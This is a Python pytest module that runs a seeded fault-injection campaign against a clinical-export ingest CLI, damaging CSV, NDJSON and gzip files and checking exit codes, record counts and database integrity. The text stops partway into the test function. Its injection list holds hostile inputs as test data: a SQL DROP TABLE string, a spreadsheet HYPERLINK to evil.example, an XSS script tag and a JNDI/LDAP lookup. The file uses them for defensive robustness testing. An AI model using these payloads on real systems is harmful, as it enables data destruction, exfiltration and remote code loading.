"""A seeded fault-injection campaign against the real CLI (issue #17): hundreds of damaged exports in
all five formats, each run in a real process, each held to the same invariants.

Every case starts from a real-shaped export (the generic sample clinic, Synthea and FHIR rows copied
from public sample exports, the OMOP CDM and MIMIC-IV fixtures written from their documentation),
plants a marker in a free-text column of the file it damages, then damages it: truncation and byte
flips at seeded offsets, quotes, line ends, NUL bytes, BOMs, header changes, encodings, huge fields,
many columns, numeric and date edge cases, injection text in every column, JSON that is no resource.
The run goes against a copy of a database that already holds the unmutated export's run, and:

- exits with a documented code (README "Exit codes"; never 1, the internal-error code);
- prints no traceback, and neither stderr nor the log file carries the marker (record text);
- accounts for every record: rows_read = loaded + duplicate + rejected + skipped for every file in
  summary.json, and on exit 0 rows_read of the damaged file equals its records as counted here,
  independently, with Python's csv module or line by line for NDJSON;
- leaves the database exactly as it was (every table's rows) when it exits with anything but 0.

The runs go through `pipelines.cli.main` in one long-lived worker process (the imports paid once,
the process real: a crash or a hang fails the case and a new worker takes over); a few cases run
`python -m pipelines` itself. The seed is fixed: a failure names its case and replays the same way.
"""

from __future__ import annotations

import atexit
import codecs
import csv
import functools
import gzip
import hashlib
import io
import json
import os
import random
import select
import shutil
import signal
import subprocess
import sys
import tempfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pytest

from tests.functional.test_format_mimic import FILES as MIMIC_FILES
from tests.functional.test_format_omop import CDM
from tests.helpers import clean_env, run_args, start_cli, table

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[2]
REAL = ROOT / "tests" / "fixtures" / "real"
SEED = 17
DOCUMENTED = {0, 2, 3, 4, 5, 6, 7, 8, 130, 143}
INPUT_CODES = {0, 2, 3}  # what a damaged export may end in: done, format not recognised, refused
CASE_TIMEOUT = 180
CHECK = "cramps_cirrhosis"  # one check keeps each run short; ingest is what is under test

# Per format: the export's files (name -> contract table counted in summary.json, or None for a
# lookup table), the file most cases damage, and per file the free-text column the marker goes in.
FORMATS = {
    "generic": {
        "files": {
            "labs.csv": "labs",
            "prescriptions.csv": "prescriptions",
            "diagnoses.csv": "diagnoses",
            "patients.csv": "patients",
        },
        "main": "labs.csv",
        "text": {"labs.csv": "test_name", "prescriptions.csv": "drug_name"},
        "numeric": "value",
        "date": "collected_at",
        "as_of": "2026-11-20",
    },
    "synthea": {
        "files": {
            "observations.csv": "labs",
            "medications.csv": "prescriptions",
            "conditions.csv": "diagnoses",
            "patients.csv": "patients",
        },
        "main": "observations.csv",
        "text": {
            "observations.csv": "DESCRIPTION",
            "medications.csv": "REASONDESCRIPTION",
            "conditions.csv": "DESCRIPTION",
            "patients.csv": "FIRST",
        },
        "numeric": "VALUE",
        "date": "DATE",
        "as_of": "2026-11-20",
    },
    "omop": {
        "files": {
            "MEASUREMENT.csv": "labs",
            "DRUG_EXPOSURE.csv": "prescriptions",
            "CONDITION_OCCURRENCE.csv": "diagnoses",
            "PERSON.csv": "patients",
            "CONCEPT.csv": None,
            "CONCEPT_ANCESTOR.csv": None,
        },
        "main": "MEASUREMENT.csv",
        # value_source_value, sig and condition_status_source_value are CDM v5.4 columns the
        # fixture leaves out: added, they carry the marker.
        "text": {
            "MEASUREMENT.csv": "value_source_value",
            "DRUG_EXPOSURE.csv": "sig",
            "CONDITION_OCCURRENCE.csv": "condition_status_source_value",
        },
        "numeric": "value_as_number",
        "date": "measurement_date",
        "as_of": "2026-11-20",
    },
    "mimic": {
        "files": {
            "hosp/labevents.csv.gz": "labs",
            "hosp/prescriptions.csv.gz": "prescriptions",
            "hosp/diagnoses_icd.csv.gz": "diagnoses",
            "hosp/patients.csv.gz": "patients",
            "hosp/admissions.csv.gz": None,
            "hosp/d_labitems.csv.gz": None,
        },
        "main": "hosp/labevents.csv.gz",
        "text": {"hosp/labevents.csv.gz": "comments", "hosp/prescriptions.csv.gz": "prod_strength"},
        "numeric": "valuenum",
        "date": "charttime",
        "as_of": "2180-06-01",
    },
    "fhir": {
        "files": {
            "Observation.000.ndjson": "labs",
            "MedicationRequest.000.ndjson": "prescriptions",
            "Condition.000.ndjson": "diagnoses",
            "Patient.000.ndjson": "patients",
        },
        "main": "Observation.000.ndjson",
        "text": {},  # NDJSON: the marker goes in each resource's code.text (or a note)
        "numeric": "valueQuantity.value",
        "date": "effectiveDateTime",
        "as_of": "2026-11-20",
    },
}


# --- the base exports -------------------------------------------------------------------------


def _generic(folder: Path) -> None:
    for path in (ROOT / "sample_data" / "clinic_export").glob("*.csv"):
        lines = path.read_bytes().splitlines(keepends=True)
        (folder / path.name).write_bytes(b"".join(lines[:31]))  # the header and 30 records


def _synthea(folder: Path) -> None:
    for path in (REAL / "synthea").glob("*.csv"):
        shutil.copyfile(path, folder / path.name)


def _fhir(folder: Path) -> None:
    for path in (REAL / "fhir").glob("*.ndjson"):
        shutil.copyfile(path, folder / path.name)


def _omop(folder: Path) -> None:
    for name, text in CDM.items():
        rows = table(text)
        lines = [",".join(rows[0])] + [",".join(r.values()) for r in rows]
        (folder / f"{name.upper()}.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")


def _mimic(folder: Path) -> None:
    (folder / "hosp").mkdir()
    for name, text in MIMIC_FILES.items():
        (folder / "hosp" / f"{name}.csv.gz").write_bytes(gzip.compress(text.encode(), mtime=0))


BUILDERS = {"generic": _generic, "synthea": _synthea, "fhir": _fhir, "omop": _omop, "mimic": _mimic}


def _plain(name: str, data: bytes) -> bytes:
    return gzip.decompress(data) if name.endswith(".gz") else data


def _packed(name: str, data: bytes) -> bytes:
    return gzip.compress(data, mtime=0) if name.endswith(".gz") else data


def _with_marker_csv(data: bytes, column: str, marker: str) -> bytes:
    """The CSV with the marker appended to `column` of every record (the column added if absent)."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    header = rows[0]
    if column not in header:
        header.append(column)
        rows = [header] + [[*r, ""] for r in rows[1:]]
    at = header.index(column)
    for row in rows[1:]:
        row[at] = f"{row[at]} {marker}".strip()
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def _with_marker_json(data: bytes, marker: str) -> bytes:
    lines = []
    for line in data.decode("utf-8").splitlines():
        resource = json.loads(line)
        if isinstance(resource.get("code"), dict):
            resource["code"]["text"] = f"{resource['code'].get('text', '')} {marker}"
        else:
            resource["note"] = [{"text": marker}]
        lines.append(json.dumps(resource, separators=(",", ":")))
    return ("\n".join(lines) + "\n").encode("utf-8")


def marked(fmt: str, name: str, data: bytes, marker: str) -> bytes:
    """The file's plain bytes with the case's marker planted in its free-text column."""
    if name.endswith((".ndjson", ".ndjson.gz")):
        return _with_marker_json(data, marker)
    column = FORMATS[fmt]["text"].get(name)
    return _with_marker_csv(data, column, marker) if column else data


# --- the mutations ----------------------------------------------------------------------------
# Each takes (plain bytes of the marked file, a seeded Random, the marker) and returns the damaged
# plain bytes, or compressed bytes when its name starts with 'gz-' (damage to the .gz itself).

Mutation = Callable[[bytes, random.Random, str], bytes]


def _lines(data: bytes) -> list[bytes]:
    return data.split(b"\n")


def _join(lines: list[bytes]) -> bytes:
    return b"\n".join(lines)


def _data_line(data: bytes, rnd: random.Random) -> int:
    """A seeded data line's index (not the header, not the empty tail)."""
    count = len([x for x in _lines(data) if x])
    return rnd.randrange(1, max(count, 2))


def truncate(data, rnd, marker):
    return data[: rnd.randrange(1, len(data))]


def flip_byte(data, rnd, marker):
    at = rnd.randrange(len(data))
    return data[:at] + bytes([data[at] ^ (1 << rnd.randrange(8))]) + data[at + 1 :]


def random_byte(data, rnd, marker):
    at = rnd.randrange(len(data))
    return data[:at] + bytes([rnd.randrange(256)]) + data[at + 1 :]


def insert_quote(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    at = rnd.randrange(len(lines[i]) + 1)
    lines[i] = lines[i][:at] + b'"' + lines[i][at:]
    return _join(lines)


def quote_at_field_start(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    fields = lines[i].split(b",")
    k = rnd.randrange(len(fields))
    fields[k] = b'"' + fields[k]
    lines[i] = b",".join(fields)
    return _join(lines)


def remove_quote(data, rnd, marker):
    spots = [i for i, b in enumerate(data) if b == ord('"')]
    if not spots:
        return quote_at_field_start(data, rnd, marker)
    at = rnd.choice(spots)
    return data[:at] + data[at + 1 :]


def quoted_newline(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    fields = lines[i].split(b",")
    k = rnd.randrange(len(fields))
    fields[k] = b'"' + fields[k].replace(b'"', b"") + b"\nsecond line " + marker.encode() + b'"'
    lines[i] = b",".join(fields)
    return _join(lines)


def line_ends(ending: bytes) -> Mutation:
    def mutate(data, rnd, marker):
        return data.replace(b"\n", ending)

    mutate.__name__ = f"line_ends_{ending.hex()}"
    return mutate


def mixed_line_ends(data, rnd, marker):
    lines = _lines(data)
    ends = [b"\n", b"\r\n", b"\r\r\n"]
    return b"".join(line + (rnd.choice(ends) if n < len(lines) - 1 else b"") for n, line in enumerate(lines))


def final_bare_cr(data, rnd, marker):
    return data.rstrip(b"\n") + b"\r"


def no_final_newline(data, rnd, marker):
    return data.rstrip(b"\n")


def stray_cr(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    at = rnd.randrange(len(lines[i]) + 1)
    lines[i] = lines[i][:at] + b"\r" + lines[i][at:]
    return _join(lines)


def nul_byte(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    at = rnd.randrange(len(lines[i]) + 1)
    lines[i] = lines[i][:at] + b"\x00" + lines[i][at:]
    return _join(lines)


def bom_start(data, rnd, marker):
    return codecs.BOM_UTF8 + data


def double_bom(data, rnd, marker):
    return codecs.BOM_UTF8 + codecs.BOM_UTF8 + data


def bom_in_field(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    at = rnd.randrange(len(lines[i]) + 1)
    lines[i] = lines[i][:at] + codecs.BOM_UTF8 + lines[i][at:]
    return _join(lines)


def bom_line_start(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    lines[i] = codecs.BOM_UTF8 + lines[i]
    return _join(lines)


def utf16(data, rnd, marker):
    return data.decode("utf-8").encode("utf-16")


def latin1_byte(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    lines[i] = lines[i] + b"\xe9"  # 'é' in Latin-1: not UTF-8
    return _join(lines)


def lone_continuation(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    at = rnd.randrange(len(lines[i]) + 1)
    lines[i] = lines[i][:at] + b"\x80\xbf" + lines[i][at:]
    return _join(lines)


def overlong_utf8(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    lines[i] = lines[i] + b"\xc0\xaf"  # '/' encoded overlong
    return _join(lines)


def empty_file(data, rnd, marker):
    return b""


def blank_lines_only(data, rnd, marker):
    return b"\n\n\n"


def header_only(data, rnd, marker):
    return _lines(data)[0] + b"\n"


def blank_first_line(data, rnd, marker):
    return b"\n" + data


def blank_lines_between(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    return _join([*lines[:i], b"", b"   ", b"", *lines[i:]])


def _header(data: bytes, change: Callable[[list[bytes], random.Random], list[bytes]], rnd) -> bytes:
    lines = _lines(data)
    lines[0] = b",".join(change(lines[0].split(b","), rnd))
    return _join(lines)


def header_duplicate(data, rnd, marker):
    return _header(data, lambda names, r: [*names, r.choice(names)], rnd)


def header_duplicate_replacing(data, rnd, marker):
    def change(names, r):
        i, j = r.sample(range(len(names)), 2)
        names[j] = names[i]
        return names

    return _header(data, change, rnd)


def header_missing(data, rnd, marker):
    def change(names, r):
        names[r.randrange(len(names))] = b"dropped_" + marker.encode()
        return names

    return _header(data, change, rnd)


def header_renamed(data, rnd, marker):
    def change(names, r):
        i = r.randrange(len(names))
        names[i] = names[i][:-1] + b"x"
        return names

    return _header(data, change, rnd)


def header_upper(data, rnd, marker):
    return _header(data, lambda names, r: [n.upper() for n in names], rnd)


def header_lower(data, rnd, marker):
    return _header(data, lambda names, r: [n.lower() for n in names], rnd)


def header_whitespace(data, rnd, marker):
    return _header(data, lambda names, r: [b" " + n + b"\t" for n in names], rnd)


def header_quoted(data, rnd, marker):
    return _header(data, lambda names, r: [b'"' + n + b'"' for n in names], rnd)


def header_shorter(data, rnd, marker):
    return _header(data, lambda names, r: names[:-1], rnd)


def many_columns(data, rnd, marker):
    lines = _lines(data)
    extra = 3000
    lines[0] += b"," + b",".join(b"x%d" % i for i in range(extra))
    for i in range(1, len(lines)):
        if lines[i]:
            lines[i] += b"," * extra
    return _join(lines)


def extra_field(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    lines[i] += b"," + marker.encode()
    return _join(lines)


def missing_field(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    lines[i] = lines[i].rsplit(b",", 1)[0]
    return _join(lines)


def huge_field(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    lines[i] = lines[i] + b"," + marker.encode() + b"K" * (9 << 20)
    return _join(lines)


def duplicate_records(data, rnd, marker):
    lines = _lines(data)
    i = _data_line(data, rnd)
    return _join(lines[: i + 1] + [lines[i]] * 3 + lines[i + 1 :])


def shuffle_records(data, rnd, marker):
    lines = [x for x in _lines(data) if x]
    body = lines[1:]
    rnd.shuffle(body)
    return _join([lines[0], *body, b""])


def gz_truncate(data, rnd, marker):
    packed = gzip.compress(data, mtime=0)
    return packed[: rnd.randrange(10, len(packed) - 1)]


def gz_flip(data, rnd, marker):
    packed = gzip.compress(data, mtime=0)
    at = rnd.randrange(10, len(packed) - 8)
    return packed[:at] + bytes([packed[at] ^ 0xFF]) + packed[at + 1 :]


def gz_crc(data, rnd, marker):
    packed = bytearray(gzip.compress(data, mtime=0))
    packed[-8] ^= 0x01  # the CRC-32 of the trailer
    return bytes(packed)


def gz_concatenated(data, rnd, marker):
    half = len(data) // 2
    cut = data.rfind(b"\n", 0, half) + 1
    return gzip.compress(data[:cut], mtime=0) + gzip.compress(data[cut:], mtime=0)


def gz_not_gzip(data, rnd, marker):
    return data  # plain text named .gz


def gz_trailing_garbage(data, rnd, marker):
    return gzip.compress(data, mtime=0) + b"\x00garbage" + marker.encode()


# Per-field mutations: replace one column's value in one record with a text.


def _set_csv_field(data: bytes, column: str, text: str, rnd: random.Random) -> bytes:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    header = [h.strip() for h in rows[0]]
    i = rnd.randrange(1, len(rows))
    rows[i][header.index(column)] = text
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def _set_json_field(data: bytes, path: str, value: object, rnd: random.Random) -> bytes:
    lines = data.decode("utf-8").splitlines()
    i = rnd.randrange(len(lines))
    resource = json.loads(lines[i])
    node = resource
    *parents, last = path.split(".")
    for key in parents:
        node = node.setdefault(key, {}) if isinstance(node, dict) else node
        if isinstance(node, list):
            node = node[0]
    node[last] = value
    lines[i] = json.dumps(resource, separators=(",", ":"))
    return ("\n".join(lines) + "\n").encode("utf-8")


def set_field(column: str, text: object, raw_json: str | None = None) -> Mutation:
    """Set a CSV column (or a dotted JSON path) of one seeded record to the text; `raw_json`
    replaces the JSON value with literal text (numbers JSON cannot hold: 1e309, NaN)."""

    def mutate(data, rnd, marker):
        value = text.replace("MARK", marker) if isinstance(text, str) else text
        if data.lstrip().startswith(b"{"):
            if raw_json is None:
                return _set_json_field(data, column, value, rnd)
            token = f"RAWTOKEN{marker}"
            replaced = _set_json_field(data, column, token, rnd)
            return replaced.replace(f'"{token}"'.encode(), raw_json.encode())
        return _set_csv_field(data, column, str(value), rnd)

    return mutate


def json_line(text: str, label: str = "") -> Mutation:
    """Insert one NDJSON line (MARK replaced by the marker) before a seeded line."""

    def mutate(data, rnd, marker):
        lines = data.decode("utf-8").splitlines()
        at = rnd.randrange(len(lines) + 1)
        lines.insert(at, text.replace("MARK", marker))
        return ("\n".join(lines) + "\n").encode("utf-8")

    slug = "".join(c if c.isalnum() else "_" for c in text.replace("MARK", ""))[:24].strip("_")
    mutate.__name__ = f"line_{label or slug or 'string'}"
    return mutate


def deeply_nested(depth: int) -> Mutation:
    return json_line("[" * depth + '"MARK"' + "]" * depth, f"nested_{depth}")


def json_wrong_type(data, rnd, marker):
    lines = data.decode("utf-8").splitlines()
    resource = json.loads(lines[rnd.randrange(len(lines))])
    resource["resourceType"] = "Encounter"
    resource["id"] = marker
    lines.insert(rnd.randrange(len(lines) + 1), json.dumps(resource))
    return ("\n".join(lines) + "\n").encode("utf-8")


def json_array_file(data, rnd, marker):
    resources = [json.loads(x) for x in data.decode("utf-8").splitlines()]
    return json.dumps(resources, indent=1).encode("utf-8")


def json_pretty(data, rnd, marker):
    lines = data.decode("utf-8").splitlines()
    i = rnd.randrange(len(lines))
    lines[i] = json.dumps(json.loads(lines[i]), indent=2)
    return ("\n".join(lines) + "\n").encode("utf-8")


def json_duplicate_key(data, rnd, marker):
    lines = data.decode("utf-8").splitlines()
    i = rnd.randrange(len(lines))
    lines[i] = lines[i][:-1] + f',"resourceType":"X{marker}"}}'
    return ("\n".join(lines) + "\n").encode("utf-8")


INJECTIONS = [
    "'); DROP TABLE labs;-- MARK",
    '=HYPERLINK("http://evil.example/?MARK","click")',
    "<script>alert('MARK')</script>",
    "MARK\\N",
    "${jndi:ldap://MARK}",
    "MARK'||(SELECT version())||'",
    "%s%n MARK {0} {}",
    "MARK\u202e\u0000",
]
NUMBERS = [
    "1e309",
    "-0",
    "0x10",
    "1_000",
    " 5 ",
    "5,0",
    "1e-400",
    "+5",
    ".5",
    "5.",
    "--5",
    "١٢",  # Arabic-Indic digits
    "9" * 400,
    "NaN",
    "-inf",
    "<0x10",
]
DATES = [
    "0000-00-00",
    "9999-12-31",
    "2026-02-30",
    "2024-02-29",
    "2025-02-29",
    "2026-13-01",
    "2026-11-20T25:00:00",
    " 2026-01-05",
    "20260105",
    "-2026-01-05",
    "2026-01-05T10:00:00+99:00",
    "1899-12-31",
]


@dataclass(frozen=True)
class Case:
    id: str
    fmt: str
    file: str
    mutation: Mutation
    threshold: str = "1"

    @property
    def seed(self) -> int:
        return int(hashlib.sha256(f"{SEED}:{self.id}".encode()).hexdigest()[:8], 16)


CSV_MUTATIONS: list[Mutation] = [
    truncate,
    truncate,
    flip_byte,
    flip_byte,
    random_byte,
    insert_quote,
    quote_at_field_start,
    remove_quote,
    quoted_newline,
    line_ends(b"\r\n"),
    line_ends(b"\r"),
    line_ends(b"\r\r\n"),
    mixed_line_ends,
    final_bare_cr,
    no_final_newline,
    stray_cr,
    nul_byte,
    bom_start,
    double_bom,
    bom_in_field,
    bom_line_start,
    utf16,
    latin1_byte,
    lone_continuation,
    overlong_utf8,
    empty_file,
    blank_lines_only,
    header_only,
    blank_first_line,
    blank_lines_between,
    header_duplicate,
    header_duplicate_replacing,
    header_missing,
    header_renamed,
    header_upper,
    header_lower,
    header_whitespace,
    header_quoted,
    header_shorter,
    many_columns,
    extra_field,
    missing_field,
    duplicate_records,
    shuffle_records,
]
NDJSON_MUTATIONS: list[Mutation] = [
    truncate,
    truncate,
    flip_byte,
    flip_byte,
    random_byte,
    line_ends(b"\r\n"),
    line_ends(b"\r"),
    line_ends(b"\r\r\n"),
    final_bare_cr,
    no_final_newline,
    stray_cr,
    nul_byte,
    bom_start,
    bom_line_start,
    utf16,
    latin1_byte,
    lone_continuation,
    empty_file,
    blank_lines_only,
    blank_first_line,
    blank_lines_between,
    duplicate_records,
    json_line("[]"),
    json_line('[{"resourceType":"Observation","id":"MARK"}]'),
    json_line("42"),
    json_line("null"),
    json_line('"MARK"'),
    json_line("true"),
    json_line("{}"),
    json_line('{"resourceType":null,"id":"MARK"}'),
    json_line('{"resourceType":["Observation"],"id":"MARK"}'),
    json_line('{"resourceType":"Bundle","entry":[{"resource":{"resourceType":"Observation","id":"MARK"}}]}'),
    json_line('{"resourceType":"Observation","id":"MARK"'),
    json_line('{"resourceType":"Observation","id":"MARK",}'),
    json_line('{"resourceType":"Observation","id":"MARK","subject":{"reference":"Patient/MARK"}}'),
    json_line('{"resourceType":"Observation","id":"MARK","status":"final","code":"MARK"}'),
    json_line('{"resourceType":"Observation","id":"MARK","valueQuantity":"MARK","code":{"coding":[]}}'),
    deeply_nested(100),
    deeply_nested(5000),
    deeply_nested(200000),
    json_wrong_type,
    json_array_file,
    json_pretty,
    json_duplicate_key,
]
GZ_MUTATIONS: list[Mutation] = [
    gz_truncate,
    gz_truncate,
    gz_flip,
    gz_crc,
    gz_concatenated,
    gz_not_gzip,
    gz_trailing_garbage,
]
for _m in GZ_MUTATIONS:
    _m.packed = True  # type: ignore[attr-defined]


def _name(mutation: Mutation) -> str:
    return mutation.__name__ if mutation.__name__ != "mutate" else "field"


def build_cases() -> list[Case]:
    """The campaign: every mutation on each format's main file, a sample on the other files, the
    numeric, date and injection texts on each format's columns, the .gz faults."""
    rnd = random.Random(SEED)
    cases: list[Case] = []

    def add(fmt: str, file: str, mutation: Mutation, label: str, threshold: str = "1") -> None:
        cases.append(Case(f"{fmt}-{label}-{len(cases):03d}", fmt, file, mutation, threshold))

    for fmt, spec in FORMATS.items():
        main = spec["main"]
        mutations = NDJSON_MUTATIONS if fmt == "fhir" else CSV_MUTATIONS
        for mutation in mutations:
            add(fmt, main, mutation, _name(mutation))
        others = [f for f in spec["files"] if f != main]
        for file in others:  # each other file: a seeded handful of the same faults
            for mutation in rnd.sample(mutations, 1):
                add(fmt, file, mutation, f"{Path(file).stem.split('.')[0]}-{_name(mutation)}")
        add(
            fmt,
            main,
            huge_field if fmt != "fhir" else json_line('{"id":"MARK' + "K" * (9 << 20) + '"}'),
            "huge",
        )
        add(fmt, main, truncate, "truncate-threshold", threshold="0.05")
        add(fmt, main, latin1_byte, "latin1-threshold", threshold="0.05")
        for number in rnd.sample(NUMBERS, 5):
            add(fmt, main, set_field(spec["numeric"], number), f"number-{number.strip()[:8] or 'blank'}")
        for date in rnd.sample(DATES, 4):
            add(fmt, main, set_field(spec["date"], date), f"date-{date.strip()[:12]}")
        columns = _columns(fmt, main)
        for column in sorted(rnd.sample(columns, min(8, len(columns)))):
            add(fmt, main, set_field(column, rnd.choice(INJECTIONS)), f"inject-{column}")
    for number, raw in (("1e309", "1e309"), ("NaN", "NaN"), ("-Infinity", "-Infinity"), ("big", "1" * 5000)):
        add("fhir", FORMATS["fhir"]["main"], set_field("valueQuantity.value", 0, raw), f"rawnumber-{number}")
    for mutation in GZ_MUTATIONS:
        add("mimic", FORMATS["mimic"]["main"], mutation, _name(mutation))
        add("fhir", "Observation.000.ndjson.gz", mutation, _name(mutation))
    return cases


def _columns(fmt: str, name: str) -> list[str]:
    """The columns (or JSON paths) injection text goes in."""
    if fmt == "fhir":
        return [
            "id",
            "status",
            "code.text",
            "subject.reference",
            "effectiveDateTime",
            "valueQuantity.unit",
            "valueQuantity.code",
            "valueString",
        ]
    folder = FORMATS[fmt]
    data = _plain(name, _base_bytes(fmt, name))
    header = data.split(b"\n", 1)[0].decode().split(",")
    return header + ([folder["text"][name]] if folder["text"].get(name) not in header else [])


_BASE: dict[str, Path] = {}


@functools.cache
def _scratch() -> str:
    """A folder for the base exports (built at collection, removed at exit)."""
    folder = tempfile.mkdtemp(prefix="fault-campaign-")
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    return folder


def _base_folder(fmt: str) -> Path:
    if fmt not in _BASE:
        folder = Path(_scratch()) / fmt
        folder.mkdir()
        BUILDERS[fmt](folder)
        _BASE[fmt] = folder
    return _BASE[fmt]


def _base_bytes(fmt: str, name: str) -> bytes:
    return (_base_folder(fmt) / name).read_bytes()


CASES = build_cases()


# --- counting records independently ------------------------------------------------------------


def count_csv(data: bytes) -> int | None:
    """Data records of a CSV, with Python's csv module: LF, CRLF, CR CR LF and (with no LF at all)
    CR end a line, a final bare CR ends the last, any other CR is text in its field; blank lines are
    no records. None when csv cannot read the file strictly (an unterminated quote)."""
    text = data.removeprefix(codecs.BOM_UTF8).decode("latin-1")
    if "\n" not in text:
        text = text.replace("\r", "\n")
    text = text.replace("\r\r\n", "\n").replace("\r\n", "\n")
    text = text.removesuffix("\r").replace("\r", "\x01")
    try:
        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    except csv.Error:
        return None
    records = [r for r in rows if r and not (len(r) == 1 and not r[0].strip())]
    return max(len(records) - 1, 0)


def count_ndjson(data: bytes) -> int:
    """Non-blank lines of an NDJSON file (a line ends at LF)."""
    return sum(1 for line in data.split(b"\n") if line.strip())


def gunzipped(data: bytes) -> bytes | None:
    """The .gz file's content, or None when it is damaged (truncated, bad CRC, not gzip)."""
    try:
        return gzip.decompress(data)
    except (OSError, EOFError, zlib.error):
        return None


def count_records(name: str, data: bytes) -> int | None:
    """The records of the file as written (decompressed when it is a .gz); None when unknowable."""
    if name.endswith(".gz"):
        data = gunzipped(data)
        if data is None:
            return None
    if name.endswith((".ndjson", ".ndjson.gz")):
        return count_ndjson(data)
    return count_csv(data)


# --- the database before and after -------------------------------------------------------------


def db_digest(db: Path) -> str:
    """A digest of every base table's rows (sorted), so any change is seen."""
    digest = hashlib.sha256()
    with duckdb.connect(str(db), read_only=True) as con:
        tables = con.execute(
            "SELECT table_name FROM information_schema.tables "
            "WHERE table_type = 'BASE TABLE' ORDER BY table_name"
        ).fetchall()
        for (name,) in tables:
            rows = con.execute(f'SELECT * FROM "{name}"').fetchall()
            digest.update(name.encode())
            for row in sorted(repr(r) for r in rows):
                digest.update(row.encode())
    return digest.hexdigest()


# --- the worker process -----------------------------------------------------------------------

WORKER = r"""
import json, os, sys, traceback
from pipelines.cli import main
results = os.fdopen(os.dup(1), "w")
for line in sys.stdin:
    job = json.loads(line)
    sys.stdout.flush(); sys.stderr.flush()
    saved = os.dup(1), os.dup(2)
    out = os.open(job["stdout"], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    err = os.open(job["stderr"], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    os.dup2(out, 1); os.dup2(err, 2); os.close(out); os.close(err)
    try:
        code = main(job["args"], job["env"])
    except BaseException as error:  # main must never raise: the case fails with this
        traceback.print_exc()
        code = "raised " + type(error).__name__
    finally:
        sys.stdout.flush(); sys.stderr.flush()
        os.dup2(saved[0], 1); os.dup2(saved[1], 2); os.close(saved[0]); os.close(saved[1])
    results.write(json.dumps({"code": code}) + "\n"); results.flush()
"""


class Worker:
    """One long-lived `python -c WORKER` process running `pipelines.cli.main` per case."""

    def __init__(self) -> None:
        self.process: subprocess.Popen | None = None

    def _start(self) -> subprocess.Popen:
        return subprocess.Popen(
            [sys.executable, "-c", WORKER],
            cwd=ROOT,
            env=clean_env(),
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )

    def run(self, args: list[str], stdout: Path, stderr: Path) -> int | str:
        if self.process is None or self.process.poll() is not None:
            self.process = self._start()
        job = {"args": args, "env": {}, "stdout": str(stdout), "stderr": str(stderr)}
        assert self.process.stdin and self.process.stdout
        self.process.stdin.write(json.dumps(job) + "\n")
        self.process.stdin.flush()
        ready, _, _ = select.select([self.process.stdout], [], [], CASE_TIMEOUT)
        line = self.process.stdout.readline() if ready else ""
        if not line:
            self.stop()
            return "hung" if not ready else "worker died"
        return json.loads(line)["code"]

    def stop(self) -> None:
        if self.process is not None:
            self.process.kill()
            self.process.wait()
            self.process = None


@pytest.fixture(scope="module")
def worker():
    running = Worker()
    yield running
    running.stop()


@pytest.fixture(scope="module")
def baselines(tmp_path_factory, worker):
    """Per format: a database holding one successful run of the unmutated export."""
    made: dict[str, Path] = {}

    def baseline(fmt: str) -> Path:
        if fmt not in made:
            tmp = tmp_path_factory.mktemp(f"baseline-{fmt}")
            export = tmp / "export"
            shutil.copytree(_base_folder(fmt), export)
            code = worker.run(_run_args(tmp, export, fmt, "1"), tmp / "stdout.txt", tmp / "stderr.txt")
            assert code == 0, (tmp / "stderr.txt").read_text()
            made[fmt] = tmp / "audit.duckdb"
        return made[fmt]

    return baseline


def _run_args(tmp: Path, export: Path, fmt: str, threshold: str) -> list[str]:
    return [
        "-v",
        "--log-file",
        str(tmp / "audit.jsonl"),
        "run",
        "--exports",
        str(export),
        "--out",
        str(tmp / "out"),
        "--db",
        str(tmp / "audit.duckdb"),
        "--as-of",
        FORMATS[fmt]["as_of"],
        "--checks",
        CHECK,
        "--reject-threshold",
        threshold,
    ]


def make_export(case: Case, tmp: Path, marker: str) -> tuple[Path, str, bytes]:
    """The case's export folder; returns it, the damaged file's name and its bytes as written."""
    export = tmp / "export"
    shutil.copytree(_base_folder(case.fmt), export)
    name = case.file
    if name.endswith(".ndjson.gz") and not (export / name).exists():  # the FHIR .gz variant
        (export / name.removesuffix(".gz")).unlink()
        source = _base_bytes(case.fmt, name.removesuffix(".gz"))
    else:
        source = _plain(name, _base_bytes(case.fmt, name))
    rnd = random.Random(case.seed)
    plain = marked(
        case.fmt, name.removesuffix(".gz") if name.endswith(".ndjson.gz") else name, source, marker
    )
    damaged = case.mutation(plain, rnd, marker)
    written = damaged if getattr(case.mutation, "packed", False) else _packed(name, damaged)
    (export / name).write_bytes(written)
    return export, name, written


def _table_of(case: Case) -> str | None:
    files = FORMATS[case.fmt]["files"]
    return files.get(case.file, files.get(case.file.removesuffix(".gz")))


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_campaign_case(case, tmp_path, worker, baselines):
    marker = f"QZM{case.seed:08x}"
    tmp_path.joinpath("audit.duckdb").write_bytes(baselines(case.fmt).read_bytes())
    before = db_digest(tmp_path / "audit.duckdb")
